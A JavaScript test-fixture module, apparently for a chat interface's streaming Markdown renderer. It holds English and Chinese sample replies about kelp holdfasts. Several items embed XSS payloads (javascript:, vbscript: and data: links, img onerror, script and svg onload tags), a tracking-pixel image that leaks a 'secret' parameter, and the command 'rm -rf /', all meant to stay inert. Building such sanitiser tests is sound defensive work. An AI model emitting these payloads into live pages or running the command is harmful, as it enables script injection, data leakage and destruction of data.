// @ts-check
// An answer in Markdown, with some of what a page must not fall for: models repeat what they were fed.

/** @type {import('./topics.mjs').Topic} */
export const markdown = {
  words: /\bmarkdown\b/i,
  opening: (quoted) => `You ask ${quoted}, and the answer may use **Markdown**, *as it arrives*.`,
  detour: (quoted) => `${quoted} goes without Markdown.`,
  told: [
    'It begins with a plain sentence, so that the page has something to show at once.',
    '## How kelp holds on',
    '1. The **haptera** creep into cracks of the rock,\n2. set there like *cold glue*,\n3. and let go of nothing. 🌊',
    '| Part | What it does | Where to look |\n| --- | --- | --- |\n| blade | eats light | near the surface |\n| stipe | gives way | in the swell |\n| holdfast | holds | [in a dictionary](https://en.wiktionary.org/wiki/holdfast) |',
    "```js\nconst reply = stream('/api/chat', { json: { messages } })\nawait render(reply, element, { writer: markdown })\n```",
    '### What must do nothing',
    '- a link [that runs a script](javascript:alert%28document.domain%29), one [in disguise](JaVaScRiPt:alert%281%29), one [with data](data:text/html,<script>alert%281%29</script>),\n- an image ![that runs a script](javascript:alert%281%29) or ![that tells on you](https://example.com/pixel.png?secret=1),\n- <img src=x onerror=alert(1)> and <script>alert(1)</script>, which are text like any other,\n- `rm -rf /`, which nobody runs.',
    '> Whatever a model says is somebody else’s text. It may look well, from Ålesund to São Paulo; it may not act. ✨',
  ],
  retold: [
    'Other words this time, and other marks.',
    '## What a holdfast is not',
    'It is **no root**: a root feeds its plant, and this only *grips*. 🌿',
    '- [x] grow downwards\n- [x] harden\n- [ ] let go',
    '| Fault | What you see |\n| --- | --- |\n| cut | the rest, a moment later |\n| reset | the same |\n| stall | patience, then the same |',
    '```sh\nnpm install && npm start\n```',
    '> A [link](vbscript:msgbox%281%29) stays what it says, and ![an image](data:image/svg+xml,<svg onload=alert%281%29>) stays out. ✨',
  ],
}

/** 同样的东西，用中文说。 @type {import('./topics.mjs').Topic} */
export const markdownZh = {
  words: markdown.words,
  opening: (quoted) => `你问${quoted}，回答可以用 **Markdown**，*边到边显示*。`,
  detour: (quoted) => `${quoted}用不着 Markdown。`,
  told: [
    '先来一句普通的话，好让页面马上有东西可看。',
    '## 海带怎样抓牢',
    '1. **附着枝**钻进岩石的缝隙，\n2. 像*冷却的胶水*一样凝住，\n3. 然后什么也不放。🌊',
    '| 部分 | 做什么 | 在哪里 |\n| --- | --- | --- |\n| 叶片 | 吃光 | 海面附近 |\n| 柄 | 退让 | 涌浪里 |\n| 固着器 | 抓住 | [词典里](https://en.wiktionary.org/wiki/holdfast) |',
    "```js\nconst reply = stream('/api/chat', { json: { messages } })\nawait render(reply, element, { writer: markdown })\n```",
    '### 什么也不许做的',
    '- 一个[会运行脚本的](javascript:alert%28document.domain%29)链接，一个[带数据的](data:text/html,<script>alert%281%29</script>)链接，\n- 一张![会告密的图](https://example.com/pixel.png?secret=1)，\n- <img src=x onerror=alert(1)> 和 <script>alert(1)</script>，不过是文字。',
    '> 模型说的话终究是别人的文字。它可以好看，不可以动手。✨',
  ],
  retold: [
    '这次换一种说法，也换几种记号。',
    '## 固着器不是什么',
    '它**不是根**：根供养植株，它只管*握紧*。🌿',
    '- [x] 向下长\n- [x] 变硬\n- [ ] 松手',
    '```sh\nnpm install && npm start\n```',
    '> 一个[链接](vbscript:msgbox%281%29)说什么就是什么。✨',
  ],
}
